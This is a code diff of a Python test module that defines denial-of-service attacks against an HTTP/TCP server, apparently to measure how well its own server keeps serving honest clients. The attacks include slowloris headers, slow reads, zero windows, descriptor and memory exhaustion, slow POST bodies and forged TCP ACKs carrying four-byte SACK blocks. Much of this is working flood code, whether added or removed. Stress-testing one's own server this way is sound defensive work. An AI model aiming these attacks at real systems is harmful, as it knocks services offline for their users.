@@ -1,10 +1,8 @@
 """The attacks. Each is a generator of pressure against one target that runs while honest clients are counted."""
 
-import contextlib
 import os
 import random
 import shutil
-import socket
 import struct
 import subprocess
 import sys
@@ -59,31 +57,13 @@ def run_for(seconds, *command):
         process.wait()
 
 
-def many_sockets(address, count):
-    """Connections of this host, as many as come to stand within two seconds."""
-    sockets = []
-    for _ in range(count):
-        sock = socket.socket()
-        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
-        sock.setblocking(False)
-        with contextlib.suppress(BlockingIOError):
-            sock.connect((address, 80))
-        sockets.append(sock)
-        if len(sockets) % 256 == 0:
-            time.sleep(0.01)
-    return sockets
-
-
-def say(sock, text):
-    with contextlib.suppress(OSError):
-        sock.send(text)
-
-
-def close_all(sockets):
-    for sock in sockets:
-        with contextlib.suppress(OSError):
-            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
-        sock.close()
+def sender(name, target, seconds, *more):
+    """One of the programs beside this file, which hold many connections, and say what became of them."""
+    command = [sys.executable, HERE / f"{name}.py", "--to", target.address, "--seconds", seconds, *more]
+    done = subprocess.run([str(word) for word in command], capture_output=True, text=True, check=False)
+    if done.returncode != 0:
+        raise RuntimeError(done.stderr.strip()[-200:])
+    return done.stdout.strip().splitlines()[-1]
 
 
 # --- The nine of the table in tests/README.md -----------------------------------------------------------------------
@@ -101,30 +81,31 @@ def sack_of_four_bytes(target, scale):
     request = b"GET /large.bin HTTP/1.1\r\nHost: a\r\n\r\n"
     link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535, b"", request))
     seq += len(request)
-    highest, chance = una, random.Random(1)
-    end = time.monotonic() + scale * 8
-    # First everything is acknowledged, so that the flight grows; then nothing but four bytes here and there.
-    honest_until = time.monotonic() + scale * 2
+    first, highest, chance = una, una, random.Random(1)
+    # First everything is acknowledged, so that the window grows; then nothing but four bytes here and there.
+    is_honest, flight, end = True, 0, time.monotonic() + 30
     while time.monotonic() < end:
         for segment in link.received(80, 0.001):
-            if segment.to_port == source[1]:
-                last = (segment.seq + len(segment.data)) & 0xFFFFFFFF
-                if (last - highest) & 0x80000000 == 0:
-                    highest = last
-                if time.monotonic() < honest_until:
-                    una = last if (last - una) & 0x80000000 == 0 else una
-        flight = max(1, (highest - una) & 0xFFFFFFFF)
+            last = (segment.seq + len(segment.data)) & 0xFFFFFFFF
+            if segment.to_port == source[1] and (last - highest) & 0x80000000 == 0:
+                highest = last
+        if is_honest:
+            una = highest
+            if (una - first) & 0xFFFFFFFF > 6 << 20:
+                is_honest, end = False, time.monotonic() + scale * 8
+            link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535))
+            continue
+        flight = max(flight, (highest - una) & 0xFFFFFFFF)
         for _ in range(64):
             blocks = b""
-            if time.monotonic() >= honest_until:
-                for _ in range(3):
-                    left = (una + chance.randrange(flight)) & 0xFFFFFFFF
-                    blocks += struct.pack("!II", left, (left + 4) & 0xFFFFFFFF)
-                blocks = b"\1\1\5" + bytes([2 + len(blocks)]) + blocks
+            for _ in range(3):
+                left = (una + chance.randrange(max(1, flight))) & 0xFFFFFFFF
+                blocks += struct.pack("!II", left, (left + 4) & 0xFFFFFFFF)
+            blocks = b"\1\1\5" + bytes([2 + len(blocks)]) + blocks
             link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), ACK, seq, una, 65535, blocks))
-            if not blocks:
-                break
     link.send(wire.tcp_packet(source[0], target.address, (source[1], 80), wire.RST, seq, una))
+    if target.name == "glasstcp" and flight < 256 << 10:
+        raise RuntimeError(f"a flight of {flight >> 10} KB is none to attack")
     return f"{link.sent} ACKs, flight {flight >> 10} KB"
 
 
@@ -166,58 +147,26 @@ def silent_handshakes(target, scale):
 @attack("CWE-400: slow read", served=0.9)
 def slow_readers(target, scale):
     """Twenty-four clients that read a large file a byte a second."""
-    sockets = many_sockets(target.address, 24)
-    time.sleep(0.2)
-    for i, sock in enumerate(sockets):
-        say(sock, f"GET /big{i % 12}.bin HTTP/1.1\r\nHost: a\r\n\r\n".encode())
-    for _ in range(int(8 * scale)):
-        for sock in sockets:
-            with contextlib.suppress(OSError):
-                sock.recv(1)
-        time.sleep(1)
-    close_all(sockets)
-    return f"{len(sockets)} readers"
+    return sender("slow_reader", target, 8 * scale, "--connections", 24, "--path", "/big{}.bin", "--files", 12)
 
 
 @attack("RFC 6429, CWE-400", served=0.9)
 def zero_windows(target, scale):
     """Connections that ask for a large file and never read."""
-    sockets = many_sockets(target.address, int(400 * scale) + 50)
-    time.sleep(0.3)
-    for i, sock in enumerate(sockets):
-        say(sock, f"GET /big{i % 12}.bin HTTP/1.1\r\nHost: a\r\n\r\n".encode())
-    time.sleep(8 * scale)
-    close_all(sockets)
-    return f"{len(sockets)} connections"
+    count = int(400 * scale) + 50
+    return sender("zero_window", target, 8 * scale, "--connections", count, "--path", "/big{}.bin", "--files", 12)
 
 
 @attack("CWE-400: slowloris", served=0.9)
 def partial_heads(target, scale):
     """Heads of 30 KB whose end never comes."""
-    sockets = many_sockets(target.address, int(2500 * scale) + 100)
-    time.sleep(0.5)
-    head = b"GET / HTTP/1.1\r\nHost: a\r\n" + b"".join(b"X-%d: %s\r\n" % (i, b"y" * 480) for i in range(60))
-    for piece in range(0, len(head), 8000):
-        for sock in sockets:
-            say(sock, head[piece: piece + 8000])
-        time.sleep(0.2)
-    time.sleep(5 * scale)
-    close_all(sockets)
-    return f"{len(sockets)} heads of {len(head) >> 10} KB"
+    return sender("partial_heads", target, 6 * scale, "--connections", int(2500 * scale) + 100)
 
 
-@attack("CWE-774", served=0.9, prefix=("prlimit", "--nofile=64"), only_ours=True)
+@attack("CWE-769", served=0.9, prefix=("prlimit", "--nofile=64"), only_ours=True)
 def more_files_than_descriptors(target, scale):
-    """Every file of eighty above 16 MiB is asked for, and given up, with 64 descriptors for the server."""
-    for round_ in range(int(80 * scale) + 40):
-        sock = socket.create_connection((target.address, 80), 5)
-        say(sock, f"GET /many{round_ % 80}.bin HTTP/1.1\r\nHost: a\r\nRange: bytes=0-9\r\n\r\n".encode())
-        sock.settimeout(5)
-        with contextlib.suppress(OSError):
-            sock.recv(4096)
-        sock.close()
-        time.sleep(0.03)
-    return "80 files"
+    """Eighty clients hold a file above 16 MiB each, with 64 descriptors for the server."""
+    return sender("open_files", target, 6 * scale, "--connections", 80, "--path", "/many{}.bin", "--files", 80)
 
 
 @attack("CVE-2018-5390's kind, CWE-405", served=0.9)
@@ -259,32 +208,19 @@ def first_fragments(target, scale):
 @attack("CWE-789", served=0.5, prefix=("prlimit", "--as=160000000"), options=("--memory", "64M"), only_ours=True)
 def little_memory(target, scale):
     """Downloads by the hundred where the address space is small."""
-    sockets = many_sockets(target.address, 600)
-    time.sleep(0.3)
-    for sock in sockets:
-        say(sock, b"GET /large.bin HTTP/1.1\r\nHost: a\r\n\r\n")
-    time.sleep(6 * scale)
-    close_all(sockets)
-    return f"{len(sockets)} downloads"
-
-
-def sender(name, target, scale, *more):
-    """One of the programs beside this file, which say what became of their connections."""
-    command = [sys.executable, HERE / f"{name}.py", "--to", target.address, "--seconds", str(8 * scale), *more]
-    done = subprocess.run(command, capture_output=True, text=True, check=False)
-    return (done.stdout.strip().splitlines() or [done.stderr.strip()[-80:]])[-1]
+    return sender("zero_window", target, 6 * scale, "--connections", 600, "--path", "/large.bin")
 
 
 @attack("CWE-400: slow POST", served=0.9, options=("--sink", "/sink"))
 def slow_bodies(target, scale):
     """Bodies of a megabyte, a byte of which comes every five seconds."""
-    return sender("slow_body", target, scale)
+    return sender("slow_body", target, 8 * scale)
 
 
 @attack("CWE-770", served=0.9)
 def pipelined_heads(target, scale):
     """Requests by the thousand on each connection, whose answers nobody reads."""
-    return sender("pipelined_heads", target, scale)
+    return sender("pipelined_heads", target, 8 * scale)
 
 
 # --- Other people's tools -------------------------------------------------------------------------------------------
